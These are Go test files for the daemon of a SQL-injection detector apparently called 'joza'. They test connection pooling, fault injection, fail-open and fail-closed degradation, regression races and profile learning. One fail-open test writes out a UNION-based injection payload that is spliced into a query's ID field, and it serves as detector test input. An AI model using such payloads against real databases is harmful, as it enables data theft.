	d.down.Store(false)
	time.Sleep(15 * time.Millisecond)
	if _, err := p.Analyze(benignQuery); err != nil {
		t.Fatalf("after heal: %v", err)
	}
	if err := p.Close(); err != nil {
		t.Fatal(err)
	}
	waitForGoroutines(t, before)
}

func TestHybridBreakerInMetricsAndFailureMode(t *testing.T) {
	p := NewPool(func() (net.Conn, error) {
		return nil, errors.New("daemon is gone")
	}, PoolConfig{Size: 1, MaxAttempts: 1, BackoffMin: time.Millisecond, BreakerThreshold: 1})
	h := NewHybridClient(p, nil, 0, WithoutNTI(), WithDegradeMode(DegradeFailOpen))
	defer h.Close()
	if got := h.eng.FailureMode(); got != engine.FailOpen {
		t.Fatalf("engine failure mode = %v, want fail-open to follow DegradeFailOpen", got)
	}
	v, err := h.Check(benignQuery, []nti.Input{{Source: "get", Name: "id", Value: "5"}})
	if err != nil || v.Attack {
		t.Fatalf("degraded check: v=%+v err=%v", v, err)
	}
	snap := h.Metrics()
	if snap.DegradedChecks != 1 {
		t.Fatalf("DegradedChecks = %d, want 1", snap.DegradedChecks)
	}
	if snap.BreakerState != "open" || snap.BreakerTrips != 1 {
		t.Fatalf("breaker in metrics = %q/%d trips, want open/1", snap.BreakerState, snap.BreakerTrips)
	}
}
