package daemon

// Fault-injection coverage for the Remote transport: desynced streams,
// read stalls past the deadline, mid-response connection drops, flaky
// listeners, and daemon outages under each degradation policy. Run with
// -race; the scenarios here are the acceptance bar for the pooled
// transport (no call may ever receive another request's reply).

import (
	"bufio"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"joza/internal/core"
	"joza/internal/metrics"
	"joza/internal/nti"
)

// TestClientBrokenAfterMidResponseClose injects a connection that dies
// halfway through a response: the call must error, and the client must
// stay persistently broken instead of reading a desynced stream.
func TestClientBrokenAfterMidResponseClose(t *testing.T) {
	clientSide, serverSide := net.Pipe()
	go func() {
		buf := make([]byte, 4096)
		_, _ = serverSide.Read(buf) // consume the request
		_, _ = serverSide.Write([]byte(`{"reply":{"att`))
		_ = serverSide.Close()
	}()
	c := NewClient(clientSide)
	if _, err := c.Analyze(benignQuery); err == nil {
		t.Fatal("truncated response must error")
	}
	if _, err := c.Analyze(benignQuery); !errors.Is(err, ErrBroken) {
		t.Fatalf("client after mid-response close: err = %v, want ErrBroken", err)
	}
	if !c.Broken() {
		t.Error("Broken() = false after I/O failure")
	}
}

// TestClientPartialWriteBreaksConnection injects a connection whose write
// path fails after a partial write: the encoder errors and the client
// must not reuse the half-written stream.
func TestClientPartialWriteBreaksConnection(t *testing.T) {
	clientSide, serverSide := net.Pipe()
	fc := &faultConn{Conn: clientSide, failAfter: 5}
	go func() {
		// Absorb whatever bytes arrive so the partial write completes.
		buf := make([]byte, 4096)
		for {
			if _, err := serverSide.Read(buf); err != nil {
				return
			}
		}
	}()
	c := NewClient(fc)
	if _, err := c.Analyze(benignQuery); err == nil {
		t.Fatal("partial write must error")
	}
	if _, err := c.Analyze(benignQuery); !errors.Is(err, ErrBroken) {
		t.Fatalf("second call: err = %v, want ErrBroken", err)
	}
	_ = serverSide.Close()
}

// faultConn wraps a net.Conn and fails writes after failAfter bytes of
// each Write call have been written (a partial write).
type faultConn struct {
	net.Conn
	failAfter int
}

func (f *faultConn) Write(p []byte) (int, error) {
	if f.failAfter < len(p) {
		n, _ := f.Conn.Write(p[:f.failAfter])
		return n, errors.New("injected write fault")
	}
	return f.Conn.Write(p)
}

// TestClientTimeoutNeverYieldsStaleReply is the desync regression test:
// the daemon answers request 1 after the client's deadline. The client
// must not hand that stale reply (Attack=true) to request 2 — the broken
// connection must fail every later call instead.
func TestClientTimeoutNeverYieldsStaleReply(t *testing.T) {
	clientSide, serverSide := net.Pipe()
	defer serverSide.Close()
	go func() {
		dec := json.NewDecoder(bufio.NewReader(serverSide))
		enc := json.NewEncoder(serverSide)
		var req wireRequest
		if dec.Decode(&req) != nil {
			return
		}
		time.Sleep(200 * time.Millisecond) // past the client deadline
		// The stale answer for request 1, flagged so a mixup is visible.
		_ = enc.Encode(wireResponse{Reply: &AnalysisReply{Attack: true}})
		if dec.Decode(&req) != nil {
			return
		}
		_ = enc.Encode(wireResponse{Reply: &AnalysisReply{Attack: false}})
	}()
	c := NewClient(clientSide)
	c.SetTimeout(30 * time.Millisecond)
	if _, err := c.Analyze("request one"); err == nil {
		t.Fatal("want deadline error on stalled response")
	}
	reply, err := c.Analyze("request two")
	if err == nil {
		t.Fatalf("desynced client returned a reply (stale Attack=%v)", reply.Attack)
	}
	if !errors.Is(err, ErrBroken) {
		t.Errorf("err = %v, want ErrBroken", err)
	}
}

// TestPoolReconnectsAfterServerRestart kills every connection by closing
// the server, points the dialer at a replacement daemon, and verifies the
// next request heals via redial instead of failing or serializing.
func TestPoolReconnectsAfterServerRestart(t *testing.T) {
	startServer := func() (*Server, string) {
		ln, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			t.Fatal(err)
		}
		srv := NewServer(newAnalyzer())
		go func() { _ = srv.Serve(ln) }()
		return srv, ln.Addr().String()
	}
	srvA, addrA := startServer()
	var target atomic.Value
	target.Store(addrA)
	p := NewPool(func() (net.Conn, error) {
		return net.DialTimeout("tcp", target.Load().(string), time.Second)
	}, PoolConfig{Size: 2, Timeout: time.Second, BackoffMin: time.Millisecond, BackoffMax: 5 * time.Millisecond})
	defer p.Close()

	if reply, err := p.Analyze(attackQuery); err != nil || !reply.Attack {
		t.Fatalf("first request: reply=%+v err=%v", reply, err)
	}
	dialsBefore := p.Dials()

	// Daemon restart: the old process dies, a new one comes up elsewhere.
	_ = srvA.Close()
	srvB, addrB := startServer()
	defer srvB.Close()
	target.Store(addrB)

	reply, err := p.Analyze(attackQuery)
	if err != nil {
		t.Fatalf("request after restart: %v", err)
	}
	if !reply.Attack {
		t.Error("attack missed after reconnect")
	}
	if p.Dials() <= dialsBefore {
		t.Errorf("dials = %d, want > %d (a reconnect)", p.Dials(), dialsBefore)
	}
}

// TestPoolOutageReportsUnavailable exhausts reconnection attempts against
// a dead address and checks the typed error and the exhaustion counter.
func TestPoolOutageReportsUnavailable(t *testing.T) {
	p := NewPool(func() (net.Conn, error) {
		return nil, errors.New("injected dial fault")
	}, PoolConfig{Size: 1, Timeout: 100 * time.Millisecond, MaxAttempts: 3,
		BackoffMin: time.Millisecond, BackoffMax: 2 * time.Millisecond})
	defer p.Close()
	if _, err := p.Analyze(benignQuery); !errors.Is(err, ErrUnavailable) {
		t.Fatalf("err = %v, want ErrUnavailable", err)
	}
	if p.Exhausted() != 1 {
		t.Errorf("exhausted = %d, want 1", p.Exhausted())
	}
}

// TestPoolNoCrossTalkUnderFaults hammers a pool from many goroutines
// while a disruptor closes live connections mid-flight. Every successful
// reply must belong to the query that asked for it (the reply echoes the
// query's token stream); transport errors are acceptable, mismatches are
// not. Run under -race.
func TestPoolNoCrossTalkUnderFaults(t *testing.T) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	srv := NewServer(newAnalyzer())
	go func() { _ = srv.Serve(ln) }()
	defer srv.Close()

	var mu sync.Mutex
	var live []net.Conn
	p := NewPool(func() (net.Conn, error) {
		conn, err := net.DialTimeout("tcp", ln.Addr().String(), time.Second)
		if err != nil {
			return nil, err
		}
		mu.Lock()
		live = append(live, conn)
		mu.Unlock()
		return conn, nil
	}, PoolConfig{Size: 4, Timeout: time.Second, MaxAttempts: 4,
		BackoffMin: time.Millisecond, BackoffMax: 5 * time.Millisecond})
	defer p.Close()

	stop := make(chan struct{})
	var disruptor sync.WaitGroup
	disruptor.Add(1)
	go func() {
		defer disruptor.Done()
		for i := 0; ; i++ {
			select {
			case <-stop:
				return
			case <-time.After(3 * time.Millisecond):
			}
			mu.Lock()
			if len(live) > 0 {
				_ = live[i%len(live)].Close() // mid-flight for someone
			}
			mu.Unlock()
		}
	}()

	const workers, perWorker = 8, 40
	var wg sync.WaitGroup
	mismatches := make(chan string, workers*perWorker)
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < perWorker; i++ {
				marker := fmt.Sprintf("%d", w*perWorker+i+1000)
				query := "SELECT * FROM records WHERE ID=" + marker + " LIMIT 5"
				reply, err := p.Analyze(query)
				if err != nil {
					continue // transport faults are expected here
				}
				found := false
				for _, tok := range reply.Tokens {
					if tok.Text == marker {
						found = true
						break
					}
				}
				if !found {
					mismatches <- marker
				}
			}
		}(w)
	}
	wg.Wait()
	close(stop)
	disruptor.Wait()
	close(mismatches)
	for m := range mismatches {
		t.Errorf("reply for query %s carried another request's tokens", m)
	}
}

// TestHybridDegradeFailOpen is the acceptance scenario: with the daemon
// down and fail-open policy, a check yields an NTI-only verdict (NTI
// still catches the injected input) and the degraded-check counter moves.
func TestHybridDegradeFailOpen(t *testing.T) {
	p := NewPool(func() (net.Conn, error) {
		return nil, errors.New("daemon down")
	}, PoolConfig{Size: 1, MaxAttempts: 2, BackoffMin: time.Millisecond, BackoffMax: time.Millisecond})
	defer p.Close()
	collector := metrics.NewCollector()
	h := NewHybridClient(p, nti.MustNew(), core.PolicyTerminate,
		WithDegradeMode(DegradeFailOpen), WithCollector(collector))

	payload := "-1 UNION SELECT username()"
	v, err := h.Check("SELECT * FROM records WHERE ID="+payload+" LIMIT 5",
		[]nti.Input{{Source: "get", Name: "id", Value: payload}})
	if err != nil {
		t.Fatalf("fail-open must not error: %v", err)
	}
	if v.PTI.Attack {
		t.Error("degraded check has no PTI verdict")
	}
	if !v.NTI.Attack || !v.Attack {
		t.Errorf("NTI must still catch the attack: detected by %v", v.DetectedBy())
	}
	// A benign query passes NTI-only screening.
	v, err = h.Check(benignQuery, []nti.Input{{Source: "get", Name: "id", Value: "5"}})
	if err != nil || v.Attack {
		t.Errorf("benign fail-open check: v=%+v err=%v", v, err)
	}
	snap := collector.Snapshot()
	if snap.DegradedChecks != 2 {
		t.Errorf("DegradedChecks = %d, want 2", snap.DegradedChecks)
	}
	if snap.Checks != 2 || snap.NTIAttacks != 1 {
		t.Errorf("checks = %d, ntiAttacks = %d", snap.Checks, snap.NTIAttacks)
	}
	if !strings.Contains(snap.Format(), "degraded checks") {
		t.Error("Format omits degraded checks")
	}
}

// TestHybridDegradeFailClosed pins the conservative policy: outage means
// every query is treated as an attack, Authorize blocks, and the audit
// log records the synthesized verdict.
func TestHybridDegradeFailClosed(t *testing.T) {
	c, stopDaemon := SpawnPipe(newAnalyzer())
	stopDaemon() // daemon gone; client transport broken
	var auditBuf syncBuffer
	collector := metrics.NewCollector()
	h := NewHybridClient(c, nti.MustNew(), core.PolicyTerminate,
		WithDegradeMode(DegradeFailClosed), WithCollector(collector), WithAuditLog(&auditBuf))

	v, err := h.Check(benignQuery, nil)
	if err != nil {
		t.Fatalf("fail-closed must synthesize a verdict, not error: %v", err)
	}
	if !v.Attack || !v.PTI.Attack {
		t.Errorf("fail-closed verdict = %+v", v)
	}
	if len(v.PTI.Reasons) == 0 || !strings.Contains(v.PTI.Reasons[0].Detail, "fail-closed") {
		t.Errorf("reasons = %v", v.PTI.Reasons)
	}
	if err := h.Authorize(benignQuery, nil); err == nil {
		t.Error("Authorize must block under fail-closed outage")
	}
	if collector.Snapshot().DegradedChecks == 0 {
		t.Error("degraded checks not counted")
	}
	if !strings.Contains(auditBuf.String(), "fail-closed") {
		t.Errorf("audit log missing degraded block: %q", auditBuf.String())
	}
}

// TestHybridDegradeErrorDefault pins the legacy default: transport errors
// propagate to the caller unchanged.
func TestHybridDegradeErrorDefault(t *testing.T) {
	c, stopDaemon := SpawnPipe(newAnalyzer())
	stopDaemon()
	h := NewHybridClient(c, nti.MustNew(), core.PolicyTerminate)
	if _, err := h.Check(benignQuery, nil); err == nil {
		t.Error("default degrade mode must propagate transport errors")
	}
}

// TestHybridRecordsMetricsAndAudit verifies a healthy remote deployment
// now gets the same counters and attack log an in-process Guard does.
func TestHybridRecordsMetricsAndAudit(t *testing.T) {
	c, stopDaemon := SpawnPipe(newAnalyzer())
	defer stopDaemon()
	var auditBuf syncBuffer
	h := NewHybridClient(c, nti.MustNew(), core.PolicyTerminate, WithAuditLog(&auditBuf))
	if _, err := h.Check(benignQuery, nil); err != nil {
		t.Fatal(err)
	}
	if _, err := h.Check(attackQuery, nil); err != nil {
		t.Fatal(err)
	}
	snap := h.Metrics()
	if snap.Checks != 2 || snap.Attacks != 1 || snap.PTIAttacks != 1 {
		t.Errorf("snapshot = %+v", snap)
	}
	line := strings.TrimSpace(auditBuf.String())
	if line == "" {
		t.Fatal("attack not audited")
	}
	var rec map[string]any
	if err := json.Unmarshal([]byte(line), &rec); err != nil {
		t.Fatalf("audit line not JSON: %v (%s)", err, line)
	}
	if rec["query"] != attackQuery {
		t.Errorf("audited query = %v", rec["query"])
	}
}

// syncBuffer is a strings.Builder safe for the logger's serialized writes
// plus the test's concurrent read.
type syncBuffer struct {
	mu sync.Mutex
	b  strings.Builder
}

func (s *syncBuffer) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.Write(p)
}

func (s *syncBuffer) String() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.String()
}

// TestServerAcceptRetriesTemporaryErrors feeds Serve a listener that
// fails several accepts before recovering: the daemon must stay up and
// serve the connection that eventually arrives.
func TestServerAcceptRetriesTemporaryErrors(t *testing.T) {
	inner, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	fl := &flakyListener{Listener: inner}
	fl.failures.Store(3) // EMFILE-style burst
	srv := NewServer(newAnalyzer())
	done := make(chan struct{})
	go func() {
		defer close(done)
		_ = srv.Serve(fl)
	}()
	t.Cleanup(func() {
		_ = srv.Close()
		<-done
	})
	c, err := Dial(inner.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	reply, err := c.Analyze(attackQuery)
	if err != nil {
		t.Fatalf("daemon died on transient accept errors: %v", err)
	}
	if !reply.Attack {
		t.Error("attack missed")
	}
}

// flakyListener injects temporary Accept errors before delegating.
type flakyListener struct {
	net.Listener
	failures atomic.Int32
}

func (l *flakyListener) Accept() (net.Conn, error) {
	if l.failures.Add(-1) >= 0 {
		return nil, tempErr{}
	}
	return l.Listener.Accept()
}

type tempErr struct{}

func (tempErr) Error() string   { return "accept: too many open files" }
func (tempErr) Temporary() bool { return true }
func (tempErr) Timeout() bool   { return false }

// TestServerReadTimeoutDropsStalledConn pins the per-connection read
// deadline: a client that connects and sends nothing is dropped and
// counted.
func TestServerReadTimeoutDropsStalledConn(t *testing.T) {
	clientSide, serverSide := net.Pipe()
	defer clientSide.Close()
	srv := NewServer(newAnalyzer(), WithReadTimeout(30*time.Millisecond))
	done := make(chan struct{})
	go func() {
		defer close(done)
		srv.ServeConn(serverSide)
	}()
	select {
	case <-done:
	case <-time.After(2 * time.Second):
		t.Fatal("stalled connection not dropped by read deadline")
	}
	if got := srv.Stats().DaemonTimeouts; got != 1 {
		t.Errorf("DaemonTimeouts = %d, want 1", got)
	}
}

// TestServerMaxRequestBytes drops connections whose request exceeds the
// cap instead of buffering it.
func TestServerMaxRequestBytes(t *testing.T) {
	srv := NewServer(newAnalyzer(), WithMaxRequestBytes(1024))
	c, stop := spawnOnServer(t, srv)
	defer stop()
	huge := strings.Repeat("A", 64<<10)
	if _, err := c.Analyze(huge); err == nil {
		t.Fatal("oversized request must break the connection")
	}
	// Within the cap still works on a fresh connection.
	c2, stop2 := spawnOnServer(t, srv)
	defer stop2()
	if _, err := c2.Analyze(benignQuery); err != nil {
		t.Fatalf("normal request after oversized one: %v", err)
	}
}

// TestServerPerOpCounters drives each verb and checks the per-op counters
// land in the snapshot.
func TestServerPerOpCounters(t *testing.T) {
	srv := NewServer(newAnalyzer())
	c, stop := spawnOnServer(t, srv)
	defer stop()
	for i := 0; i < 3; i++ {
		if _, err := c.Analyze(benignQuery); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := c.Stats(); err != nil {
		t.Fatal(err)
	}
	if _, err := c.roundTrip(context.Background(), wireRequest{Op: "flush"}); err == nil {
		t.Fatal("unknown op must error")
	}
	st := srv.Stats()
	if st.DaemonAnalyzeOps != 3 || st.DaemonStatsOps < 1 || st.DaemonErrors != 1 {
		t.Errorf("per-op counters = analyze %d, stats %d, errors %d",
			st.DaemonAnalyzeOps, st.DaemonStatsOps, st.DaemonErrors)
	}
	if !strings.Contains(st.Format(), "daemon ops:") {
		t.Error("Format omits daemon ops")
	}
}

// spawnOnServer connects a pipe client to an existing server.
func spawnOnServer(t *testing.T, srv *Server) (*Client, func()) {
	t.Helper()
	clientSide, serverSide := net.Pipe()
	done := make(chan struct{})
	go func() {
		defer close(done)
		srv.ServeConn(serverSide)
	}()
	return NewClient(clientSide), func() {
		_ = clientSide.Close()
		_ = serverSide.Close()
		<-done
	}
}
