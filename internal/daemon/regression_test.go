package daemon

import (
	"context"
	"errors"
	"math"
	"net"
	"sync"
	"testing"
	"time"
)

// cancelOnReadConn cancels a context as soon as one read delivers data —
// i.e. exactly between the server's reply arriving and the client's
// deferred AfterFunc stop — then yields long enough for the AfterFunc to
// run. It reproduces the window where a context fires after a successful
// exchange: the AfterFunc slams the connection deadline into the past, and
// an unfixed client leaves that poisoned deadline in place.
type cancelOnReadConn struct {
	net.Conn
	mu     sync.Mutex
	cancel context.CancelFunc
}

func (c *cancelOnReadConn) Read(p []byte) (int, error) {
	n, err := c.Conn.Read(p)
	c.mu.Lock()
	cancel := c.cancel
	c.cancel = nil
	c.mu.Unlock()
	if cancel != nil && n > 0 {
		cancel()
		// Give the context's AfterFunc goroutine time to start (and slam
		// the deadline) before the client's deferred stop() runs.
		time.Sleep(20 * time.Millisecond)
	}
	return n, err
}

// TestClientCancelAfterReplyKeepsConnHealthy is the regression test for
// the deadline-slam race: ctx canceled between a successful reply decode
// and the deferred AfterFunc stop must not poison the connection for the
// next request. Before the fix, a timeout-less client never cleared the
// slammed deadline (set to time.Unix(1, 0) by the AfterFunc), so the next
// round trip failed instantly with an i/o timeout and broke a perfectly
// healthy connection.
func TestClientCancelAfterReplyKeepsConnHealthy(t *testing.T) {
	clientSide, serverSide := net.Pipe()
	srv := NewServer(newAnalyzer())
	serveDone := make(chan struct{})
	go func() {
		defer close(serveDone)
		srv.ServeConn(serverSide)
	}()
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	wrapped := &cancelOnReadConn{Conn: clientSide, cancel: cancel}
	c := NewClient(wrapped)
	defer func() {
		_ = c.Close()
		_ = serverSide.Close()
		<-serveDone
	}()

	// First request: the reply arrives, the wrapper cancels ctx, and the
	// AfterFunc fires after the decode already succeeded. The call itself
	// must succeed — no bytes were lost.
	reply, err := c.AnalyzeContext(ctx, benignQuery)
	if err != nil {
		t.Fatalf("first analyze: %v", err)
	}
	if reply.Attack {
		t.Fatal("benign flagged")
	}

	// Second request on the same connection: with the poisoned deadline
	// left in place this fails immediately with an i/o timeout and marks
	// the connection broken.
	reply, err = c.AnalyzeContext(context.Background(), benignQuery)
	if err != nil {
		t.Fatalf("second analyze after post-reply cancellation: %v (connection poisoned by stale deadline)", err)
	}
	if reply.Attack {
		t.Fatal("benign flagged")
	}
	if c.Broken() {
		t.Fatal("connection marked broken after a healthy exchange")
	}
}

// TestTimeoutBudgetOverflowClamped is the regression test for the
// TimeoutMs overflow: a hostile (or corrupted) budget near MaxInt64 used
// to overflow time.Duration(ms)*time.Millisecond into a negative value,
// yielding an already-expired context — the request failed with a deadline
// error it never earned. The server must clamp before multiplying and
// serve the request normally.
func TestTimeoutBudgetOverflowClamped(t *testing.T) {
	for _, ms := range []int64{math.MaxInt64, math.MaxInt64 / 1000, maxTimeoutMs + 1} {
		ctx, cancel := budgetContext(context.Background(), ms)
		if err := ctx.Err(); err != nil {
			t.Errorf("budgetContext(%d): context dead on arrival: %v", ms, err)
		}
		if d, ok := ctx.Deadline(); !ok || time.Until(d) <= 0 {
			t.Errorf("budgetContext(%d): deadline %v (ok=%v), want a future deadline", ms, d, ok)
		}
		cancel()
	}

	// End to end over the wire: a frame carrying the hostile budget must
	// be analyzed, not rejected.
	clientSide, serverSide := net.Pipe()
	srv := NewServer(newAnalyzer())
	serveDone := make(chan struct{})
	go func() {
		defer close(serveDone)
		srv.ServeConn(serverSide)
	}()
	c := NewClient(clientSide)
	defer func() {
		_ = c.Close()
		_ = serverSide.Close()
		<-serveDone
	}()
	resp, err := c.roundTrip(context.Background(), wireRequest{
		Query:     benignQuery,
		TimeoutMs: math.MaxInt64,
	})
	if err != nil {
		t.Fatalf("analyze with TimeoutMs=MaxInt64: %v (budget overflowed into an expired deadline)", err)
	}
	if resp.Reply == nil || resp.Reply.Attack {
		t.Fatalf("reply = %+v, want benign verdict", resp.Reply)
	}
}

// TestServeAfterCloseReleasesListener is the regression test for the
// Close/Serve registration race: a Close that lands before Serve records
// the listener cannot reach it, so Serve must close it on the way out.
// Before the fix the listener leaked open — the kernel kept completing
// handshakes into a backlog nothing accepted, and clients to the "dead"
// daemon hung until their timeout instead of failing fast with a refused
// connection.
func TestServeAfterCloseReleasesListener(t *testing.T) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	addr := ln.Addr().String()
	srv := NewServer(newAnalyzer())
	_ = srv.Close()
	if err := srv.Serve(ln); !errors.Is(err, net.ErrClosed) {
		t.Fatalf("Serve on closed server = %v, want net.ErrClosed", err)
	}
	if conn, err := net.DialTimeout("tcp", addr, time.Second); err == nil {
		conn.Close()
		t.Fatal("dial to a closed daemon connected; Serve leaked the listener")
	}
}

// failingListener fails Accept with a transient error until closed,
// signalling the test just as Serve is about to enter its longest backoff
// sleep.
type failingListener struct {
	fails    int
	capped   chan struct{}
	mu       sync.Mutex
	closed   bool
	signaled bool
}

type tempAcceptError struct{}

func (tempAcceptError) Error() string   { return "accept: too many open files" }
func (tempAcceptError) Timeout() bool   { return false }
func (tempAcceptError) Temporary() bool { return true }

func (l *failingListener) Accept() (net.Conn, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	if l.closed {
		return nil, net.ErrClosed
	}
	l.fails++
	// Backoff doubles from 5ms per failure: after the 9th it has reached
	// the 1s cap, so the sleep that follows this return is the long one.
	if l.fails == 9 && !l.signaled {
		l.signaled = true
		close(l.capped)
	}
	return nil, tempAcceptError{}
}

func (l *failingListener) Close() error {
	l.mu.Lock()
	defer l.mu.Unlock()
	l.closed = true
	return nil
}

func (l *failingListener) Addr() net.Addr {
	return &net.TCPAddr{IP: net.IPv4(127, 0, 0, 1), Port: 0}
}

// TestServeAcceptBackoffInterruptible is the regression test for the
// uninterruptible accept backoff: Serve's sleep between failed Accepts
// must abort as soon as the server is closed. Before the fix the loop used
// a bare time.Sleep, so a Close issued mid connection-storm waited out up
// to a full capped backoff (1s) before Serve returned.
func TestServeAcceptBackoffInterruptible(t *testing.T) {
	ln := &failingListener{capped: make(chan struct{})}
	srv := NewServer(newAnalyzer())
	serveErr := make(chan error, 1)
	go func() { serveErr <- srv.Serve(ln) }()
	select {
	case <-ln.capped:
	case <-time.After(10 * time.Second):
		t.Fatal("accept backoff never reached the cap")
	}
	// Serve is inside (or entering) its 1s capped sleep now.
	time.Sleep(50 * time.Millisecond)
	start := time.Now()
	_ = srv.Close()
	select {
	case err := <-serveErr:
		if elapsed := time.Since(start); elapsed > 500*time.Millisecond {
			t.Fatalf("Serve took %v to return after Close; the backoff sleep is not interruptible", elapsed)
		}
		if !errors.Is(err, net.ErrClosed) {
			t.Fatalf("Serve returned %v, want net.ErrClosed", err)
		}
	case <-time.After(5 * time.Second):
		t.Fatal("Serve did not return after Close")
	}
}
