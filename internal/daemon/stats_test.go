package daemon

import (
	"bufio"
	"encoding/json"
	"net"
	"strings"
	"testing"
)

// TestStatsVerbOverPipe exercises the "stats" wire verb end to end: analyze
// traffic accumulates in the daemon's counters and the snapshot reports the
// analyzer's cache activity.
func TestStatsVerbOverPipe(t *testing.T) {
	c, stop := SpawnPipe(newAnalyzer())
	defer stop()
	for i := 0; i < 3; i++ {
		if _, err := c.Analyze(benignQuery); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := c.Analyze(attackQuery); err != nil {
		t.Fatal(err)
	}
	st, err := c.Stats()
	if err != nil {
		t.Fatal(err)
	}
	if st.Checks != 4 {
		t.Errorf("checks = %d, want 4", st.Checks)
	}
	if st.Attacks != 1 || st.PTIAttacks != 1 {
		t.Errorf("attacks = %d (pti %d), want 1", st.Attacks, st.PTIAttacks)
	}
	if st.NTIAttacks != 0 {
		t.Errorf("ntiAttacks = %d; NTI runs application-side", st.NTIAttacks)
	}
	// Repeats of benignQuery hit the query cache.
	if st.CacheQueryHits < 2 {
		t.Errorf("cache query hits = %d, want >= 2", st.CacheQueryHits)
	}
	if len(st.CacheShards) == 0 {
		t.Error("no per-shard cache stats")
	}
	if st.LatencyP99Ns == 0 {
		t.Error("latency histogram empty")
	}
}

// TestStatsVerbCountersSurviveSwap pins that SetAnalyzer keeps the request
// counters while the cache fields follow the new analyzer.
func TestStatsVerbCountersSurviveSwap(t *testing.T) {
	srv := NewServer(newAnalyzer())
	c, stop := spawnOn(t, srv)
	defer stop()
	if _, err := c.Analyze(benignQuery); err != nil {
		t.Fatal(err)
	}
	if _, err := c.Analyze(benignQuery); err != nil {
		t.Fatal(err)
	}
	srv.SetAnalyzer(newAnalyzer())
	st, err := c.Stats()
	if err != nil {
		t.Fatal(err)
	}
	if st.Checks != 2 {
		t.Errorf("checks after swap = %d, want 2", st.Checks)
	}
	if st.CacheQueryHits != 0 || st.CacheMisses != 0 {
		t.Errorf("fresh analyzer cache = hits %d / misses %d, want 0/0",
			st.CacheQueryHits, st.CacheMisses)
	}
}

func spawnOn(t *testing.T, srv *Server) (*Client, func()) {
	t.Helper()
	clientSide, serverSide := net.Pipe()
	done := make(chan struct{})
	go func() {
		defer close(done)
		srv.ServeConn(serverSide)
	}()
	return NewClient(clientSide), func() {
		_ = clientSide.Close()
		_ = serverSide.Close()
		<-done
	}
}

// TestUnknownOpRejected pins the protocol's forward-compatibility contract:
// an unrecognized verb yields an error response, not a hung or dropped
// connection, and the connection keeps serving afterwards.
func TestUnknownOpRejected(t *testing.T) {
	clientSide, serverSide := net.Pipe()
	srv := NewServer(newAnalyzer())
	done := make(chan struct{})
	go func() {
		defer close(done)
		srv.ServeConn(serverSide)
	}()
	defer func() {
		_ = clientSide.Close()
		_ = serverSide.Close()
		<-done
	}()
	enc := json.NewEncoder(clientSide)
	dec := json.NewDecoder(bufio.NewReader(clientSide))
	if err := enc.Encode(wireRequest{Op: "flush"}); err != nil {
		t.Fatal(err)
	}
	var resp wireResponse
	if err := dec.Decode(&resp); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(resp.Err, "unknown op") {
		t.Errorf("error = %q, want unknown op", resp.Err)
	}
	// The connection survives: a normal analyze still works.
	if err := enc.Encode(wireRequest{Query: benignQuery}); err != nil {
		t.Fatal(err)
	}
	resp = wireResponse{}
	if err := dec.Decode(&resp); err != nil {
		t.Fatal(err)
	}
	if resp.Err != "" || resp.Reply == nil || resp.Reply.Attack {
		t.Errorf("analyze after unknown op = %+v", resp)
	}
}
