package daemon

import (
	"context"
	"net"
	"testing"
	"time"

	"joza/internal/core"
	"joza/internal/nti"
	"joza/internal/profile"
)

// trainedStore profiles "plugin:records" with the benign query's skeleton.
func trainedStore() *profile.Store {
	rec := profile.NewRecorder()
	rec.Record("plugin:records", benignQuery)
	return rec.Store()
}

func TestServerProfileOutcomes(t *testing.T) {
	ln, srv := startServerWithOptions(t, WithProfiles(trainedStore()))
	c, err := Dial(ln)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	_ = srv
	ctx := context.Background()

	reply, err := c.AnalyzeSiteContext(ctx, "plugin:records", benignQuery)
	if err != nil {
		t.Fatal(err)
	}
	if reply.Profile == nil || reply.Profile.Outcome != "seen" || reply.Profile.Attack {
		t.Errorf("seen reply = %+v", reply.Profile)
	}

	reply, err = c.AnalyzeSiteContext(ctx, "plugin:records", attackQuery)
	if err != nil {
		t.Fatal(err)
	}
	if reply.Profile == nil || reply.Profile.Outcome != "unseen" || !reply.Profile.Attack {
		t.Errorf("unseen reply = %+v", reply.Profile)
	}
	if reply.Profile.Detail == "" || reply.Profile.Skeleton == "" {
		t.Errorf("unseen reply missing evidence: %+v", reply.Profile)
	}

	reply, err = c.AnalyzeSiteContext(ctx, "plugin:other", benignQuery)
	if err != nil {
		t.Fatal(err)
	}
	if reply.Profile == nil || reply.Profile.Outcome != "site-unknown" || reply.Profile.Attack {
		t.Errorf("site-unknown reply = %+v", reply.Profile)
	}

	// Requests without a site carry no profile verdict at all.
	reply, err = c.AnalyzeContext(ctx, benignQuery)
	if err != nil {
		t.Fatal(err)
	}
	if reply.Profile != nil {
		t.Errorf("siteless reply carries profile: %+v", reply.Profile)
	}
}

func TestServerProfileLearning(t *testing.T) {
	rec := profile.NewRecorder()
	ln, _ := startServerWithOptions(t, WithProfileRecorder(rec))
	c, err := Dial(ln)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()

	reply, err := c.AnalyzeSiteContext(context.Background(), "plugin:records", benignQuery)
	if err != nil {
		t.Fatal(err)
	}
	if reply.Profile == nil || reply.Profile.Outcome != "learned" {
		t.Fatalf("learning reply = %+v", reply.Profile)
	}
	if sites, sks := rec.Len(); sites != 1 || sks != 1 {
		t.Errorf("recorder = (%d, %d), want (1, 1)", sites, sks)
	}
	st := rec.Store()
	if st.Lookup("plugin:records", profile.Skeleton(benignQuery)) != profile.SkeletonSeen {
		t.Error("learned skeleton not in frozen store")
	}
}

